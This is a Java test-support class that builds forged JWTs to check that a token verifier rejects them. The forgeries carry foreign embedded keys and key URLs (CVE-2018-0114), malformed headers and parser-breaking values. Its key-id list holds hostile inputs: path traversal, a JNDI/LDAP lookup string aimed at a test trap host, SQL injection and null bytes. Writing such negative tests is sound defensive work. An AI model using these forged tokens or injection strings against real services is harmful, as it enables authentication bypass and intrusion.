package dev.sotto.testing.tokens;

import java.net.URI;
import java.security.KeyPair;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

/** Tokens whose header names a key, type or extension that Sotto does not use. */
final class ForgedHeads {

    private static final String FORGER = "of-the-forger";

    private final SignedTokens tokens;
    private final URI trap;
    private final Forgeries forgeries;

    ForgedHeads(SignedTokens tokens, URI trap, Forgeries forgeries) {
        this.tokens = tokens;
        this.trap = trap;
        this.forgeries = forgeries;
    }

    void addAll() {
        keysThatItBrings();
        keyIds();
        types();
        extensions();
        texts();
        monsters();
    }

    /**
     * Keys, and addresses of keys, in the token itself (CVE-2018-0114). With the published key they must change
     * nothing.
     */
    private void keysThatItBrings() {
        KeyPair foreign = SignedTokens.freshKeys();
        Map<String, Object> jwk = SignedTokens.jwk(foreign.getPublic());
        jwk.put("kid", FORGER);
        brought(foreign, "jwk", jwk);
        brought(foreign, "jku", trap.resolve("/jwks.json").toString());
        brought(foreign, "x5u", trap.resolve("/chain.pem").toString());
        brought(
                foreign,
                "x5c",
                List.of(Base64.getEncoder().encodeToString(foreign.getPublic().getEncoded())));
        brought(foreign, "x5t#S256", "AAAA");
    }

    private void brought(KeyPair foreign, String member, Object value) {
        UnaryOperator<TokenDraft> brings = draft -> draft.header(member, value);
        for (String keyId :
                Arrays.asList(tokens.keyId(), FORGER, trap.resolve("/kid").toString(), null)) {
            TokenDraft draft = brings.apply(forgeries.draft()).keyId(keyId);
            forgeries.add(
                    "a key by " + member + ", kid " + keyId,
                    draft.sign("RS256", foreign.getPrivate()),
                    brings.apply(forgeries.draft()).sign());
        }
    }

    private void keyIds() {
        List<Object> ids = Arrays.asList(
                null,
                "",
                "../../../../dev/null",
                "/dev/null",
                "file:///dev/null",
                trap.resolve("/kid").toString(),
                "${jndi:ldap://" + trap.getAuthority() + "/kid}",
                "' or '1'='1",
                "x' union select 'key",
                "\u0000",
                tokens.keyId() + "\u0000",
                tokens.keyId() + " ",
                tokens.keyId().substring(1),
                "x".repeat(5_000),
                "x".repeat(10_000),
                7,
                true,
                List.of(tokens.keyId()));
        for (Object id : ids) {
            forgeries.lie("kid " + shortened(id), draft -> draft.header("kid", id));
        }
    }

    private void types() {
        for (Object type :
                Arrays.asList(null, "JWT", "jwt", "", "rt+jwt", "refresh", "id+jwt", "at jwt", 7, List.of("at+jwt"))) {
            forgeries.lie("typ " + type, draft -> draft.header("typ", type));
        }
    }

    private void extensions() {
        for (Object critical : List.of(List.of("exp"), List.of("sotto"), List.of(""), List.of(7), List.of(), "sotto")) {
            forgeries.lie(
                    "crit " + critical,
                    draft -> draft.header("sotto", 1).header("crit", critical),
                    draft -> draft.header("sotto", 1));
        }
        TokenDraft plain = forgeries.draft().header("b64", false).header("crit", List.of("b64"));
        // RFC 7797: without a dot, the claims may stay unencoded, and the signature is valid.
        String claims = plain.payloadText().replace(".", "\\u002e");
        forgeries.add("claims that are not encoded", plain.signed(TokenDraft.part(plain.headerText()) + "." + claims));
    }

    private void texts() {
        TokenDraft draft = forgeries.draft();
        String good = draft.headerText();
        String members = good.substring(0, good.length() - 1);
        List<String> texts = List.of(
                "",
                "x",
                "[]",
                "null",
                "{",
                "{}",
                good + "}",
                good + good,
                "\ufeff" + good,
                members + ",\"alg\":\"none\"}",
                members + ",\"kid\":\"x\"}",
                "{\"typ\":\"JWT\"," + good.substring(1));
        for (String text : texts) {
            forgeries.add("header " + shortened(text), draft.signText(text, draft.payloadText()));
        }
    }

    /** The header is read before the signature is checked, so anybody can send one that breaks a parser. */
    private void monsters() {
        TokenDraft draft = forgeries.draft();
        String good = draft.headerText();
        String members = good.substring(0, good.length() - 1);
        List<String> values = List.of("[".repeat(2_000) + "]".repeat(2_000), "1e999999999", "9".repeat(4_000));
        for (String value : values) {
            String text = members + ",\"x\":" + value + "}";
            forgeries.add(
                    "header with " + shortened(value),
                    TokenDraft.part(text) + "." + TokenDraft.part(draft.payloadText()) + "."
                            + TokenDraft.part(new byte[256]),
                    draft.signText(text, draft.payloadText()));
        }
    }

    private static String shortened(Object value) {
        String text = String.valueOf(value);
        return text.length() > 120 ? text.substring(0, 100) + "… of " + text.length() : text;
    }
}
